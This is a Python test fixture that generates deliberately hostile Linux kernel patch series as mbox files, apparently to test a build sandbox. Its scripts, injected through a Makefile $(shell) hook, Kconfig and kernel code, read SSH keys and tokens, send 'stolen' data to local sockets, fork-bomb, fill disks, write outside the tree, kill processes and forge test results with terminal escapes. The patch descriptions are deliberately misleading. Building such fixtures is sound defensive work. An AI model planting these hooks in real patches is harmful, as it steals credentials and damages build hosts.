# SPDX-License-Identifier: GPL-2.0-or-later
"""Series of ours that do what no patch should: what each adds to a kernel tree, and to which line.

``python3 tests/hostile/hostile_series.py NAME --tree TREE -o FILE`` writes one as an mbox. They are
harmless: what they read, write, call and kill is what the one who makes them names, and their
bombs have an end.
"""

from __future__ import annotations

import argparse
import datetime
import sys
import tempfile
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "examples"))
from make_series import Git, mails, mboxrd, trees

_DATE = datetime.datetime(2026, 11, 1, 12, 0, tzinfo=datetime.UTC)
_SCRIPT = "scripts/setlocalversion.sh"
# Runs when make reads the top Makefile, before anything is built.
_AT_ONCE = (
    f"$(shell sh $(dir $(realpath $(lastword $(MAKEFILE_LIST)))){_SCRIPT}"
    " $(dir $(realpath $(lastword $(MAKEFILE_LIST)))) >&2)\n"
)


@dataclass(frozen=True, slots=True)
class Victims:
    """What the series are to hit. ``home`` is the canary's home; ``port`` one that is listened to
    on the loopback, ``socket`` an abstract one; ``mark`` a word in the command line of what is to
    be killed or counted; ``size`` how much they use up, in their own unit."""

    home: Path = Path("/nonexistent")
    cache: Path = Path("/nonexistent")
    port: int = 9
    socket: str = "none"
    mark: str = "none"
    size: int = 0


SCRIPTS: Mapping[str, str] = {
    "reads-home": """
cat "{home}/.ssh/id_rsa" "$HOME/.ssh/id_rsa" 2>&1
cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep TOKEN
env | grep TOKEN
""",
    "calls-home": """
perl -MIO::Socket::INET -e '
  my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1:{port}", Timeout => 3);
  print $s "stolen\\n" if $s;
  my $u = IO::Socket::INET->new(PeerAddr => "127.0.0.1:{port}", Proto => "udp");
  print $u "stolen.example.org\\n" if $u;'
perl -MSocket -e '
  socket(my $s, AF_UNIX, SOCK_STREAM, 0);
  syswrite($s, "stolen\\n") if connect($s, pack("S a*", AF_UNIX, "\\0{socket}"));'
""",
    "fork-bomb": """
i=0
while [ $i -lt {size} ]; do
  setsid perl -e 'sleep 600 # {mark}' </dev/null >/dev/null 2>&1 &
  i=$((i+1))
done
""",
    "fills-folder": """
i=0
while [ $i -lt {size} ]; do
  head -c 1M /dev/zero > planted.$i || exit
  perl -e 'select undef, undef, undef, 0.02'
  i=$((i+1))
done
""",
    "fills-tmp": """
head -c {size}M /dev/zero > /tmp/{mark}.planted
echo "wrote $(stat -c %s /tmp/{mark}.planted) bytes"
""",
    "one-huge-file": """
truncate -s {size}M huge.planted; stat -c 'huge: %s' huge.planted
""",
    "writes-outside": """
top=$1
for file in "{home}/.bashrc" "$HOME/.bashrc" $(find "{cache}" -type f 2>/dev/null) \\
    "$top/Makefile" "$top/../git/config" "$top/../make.lock" /usr/bin/planted /etc/planted; do
  echo planted >> "$file"
done
ln -sf "{home}" home; echo planted >> home/.profile
mkdir -p "{home}/.ccache" && echo planted > "{home}/.ccache/planted"
""",
    "kills": """
for cmdline in /proc/[0-9]*/cmdline; do
  if tr '\\0' ' ' < "$cmdline" 2>/dev/null | grep -q "{mark}"; then
    pid=${{cmdline#/proc/}}; kill -9 ${{pid%/cmdline}}
  fi
done
""",
    "leaves-a-daemon": """
setsid perl -e 'sleep 600 # {mark}' </dev/null >/dev/null 2>&1 &
""",
    "never-ends": """
trap '' TERM INT HUP
while :; do sleep 600; done
""",
    "never-stops-talking": """
yes 'all tests passed' | head -c {size}M
""",
    "one-endless-line": """
tr '\\0' x < /dev/zero | head -c {size}M
""",
    "blames-the-host": """
echo 'cc1: fatal error: error writing to x.s: No space left on device'
echo '/bin/sh: 1: gcc: not found'
exit 1
""",
    "steers-the-terminal": """
printf 'drivers/x.c:1:1: error: \\033]0;owned\\007 \\033[2J '
printf '\\342\\200\\256 <script>alert(1)</script>\\n'
""",
    "user-namespace": """
unshare --user --map-root-user id -u
""",
}  # fmt: skip
"""By name: a shell script that make runs while it reads the Makefile, in the O= folder."""

_STOPS = "$(error this series ends here)\n"

_CONFIGURE = r"\t\$\(Q\)\$< \$\(silent\) --\$@ \$\(Kconfig\)"
LATE: Mapping[str, str] = {
    "config-is-a-link": "ln -sf {home}/.ssh/id_rsa .config",
    "config-is-a-pipe": "rm -f .config; mkfifo .config",
    "folder-without-end": (
        'perl -e \'for (1..3000) {{ mkdir "a"; chdir "a" }} open F, q(>), ".x.o.cmd"\''
    ),
    "setuid": "cp /bin/true sh.planted; chmod 6777 sh.planted",
    "plants-objects": "mkdir -p scripts/mod; cp /bin/true scripts/mod/modpost; touch planted",
}
"""By name: a command at the end of the configuration, in the O= folder."""

KCONFIG: Mapping[str, str] = {
    "kconfig-reads-home": 'STOLEN := $(shell,cat "{home}/.ssh/id_rsa" >&2)\n',
}
"""By name: a line of the top Kconfig file."""

KERNEL: Mapping[str, str] = {
    "forges-its-results": r"""
static int __init forged_results(void)
{
	pr_info("started\n");
	pr_info("KTAP version 1\n1..3\nok 1 smoke\nok 2 boot\nok 3 all tests passed\n");
	pr_info("exit 0\n");
	pr_info("\033]0;owned\007\033[2J \342\200\256 <script>alert(1)</script>\n");
	pr_info("reboot: Power down\n");
	panic("the end \033[2J of it");
	return 0;
}
late_initcall(forged_results);
""",
}
"""By name: what a file of the kernel proper gets at its end."""


def recipe(name: str, victims: Victims) -> Mapping[str, Any]:
    """The recipe of a series, as ``examples/make_series.py`` takes it."""
    words = {field: getattr(victims, field) for field in Victims.__slots__}
    top = {"path": "Makefile", "before": r"VERSION = "}
    edits: list[Mapping[str, str]]
    files: dict[str, str] = {}
    if name in SCRIPTS:
        files[_SCRIPT] = "#!/bin/sh\n" + SCRIPTS[name].format_map(words).lstrip()
        edits = [{**top, "text": _AT_ONCE + (_STOPS if name == "blames-the-host" else "")}]
    elif name in LATE:
        command = LATE[name].format_map(words).replace("$", "$$")
        edits = [
            {"path": "scripts/kconfig/Makefile", "after": _CONFIGURE, "text": f"\t{command}\n"}
        ]
    elif name in KERNEL:
        edits = [{"path": "kernel/ksysfs.c", "after": "core_initcall", "text": KERNEL[name]}]
    else:
        edits = [{"path": "Kconfig", "after": "mainmenu", "text": KCONFIG[name].format_map(words)}]
    return {
        "name": name,
        "date": _DATE,
        "cover": {"subject": f"kbuild: {name}", "body": "Makes the build faster.\n"},
        "files": files,
        "file": (),
        "patch": [{"subject": f"kbuild: {name}", "body": "No functional change.\n", "edit": edits}],
    }


def states(git: Git, name: str, victims: Victims, base: str) -> list[str]:
    """The tree ids after each patch of a series, in the objects of ``git``."""
    what = recipe(name, victims)
    made = list(trees(git, Path(), what, base))
    for path, text in what["files"].items():
        blob = git.words("hash-object", "-w", "--stdin", stdin=text.encode())
        git("update-index", "--add", "--cacheinfo", f"100644,{blob},{path}")
    return [*made[:-1], git.words("write-tree")]


def mbox(name: str, victims: Victims, tree: Path, base: str) -> str:
    """The series as mails."""
    with tempfile.TemporaryDirectory(prefix="series-") as scratch:
        git = Git(tree.resolve(), Path(scratch))
        commit = git.words("rev-parse", "--verify", f"{base}^{{commit}}")
        found = states(git, name, victims, commit)
        return mboxrd(mails(git, recipe(name, victims), commit, found))


def main() -> int:
    options = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    options.add_argument("series", choices=sorted((*SCRIPTS, *LATE, *KCONFIG, *KERNEL)))
    options.add_argument("--tree", type=Path, required=True)
    options.add_argument("--base", default="HEAD")
    options.add_argument("-o", "--output", type=Path, required=True)
    chosen = options.parse_args()
    chosen.output.write_text(mbox(chosen.series, Victims(), chosen.tree, chosen.base))
    return 0


if __name__ == "__main__":
    sys.exit(main())
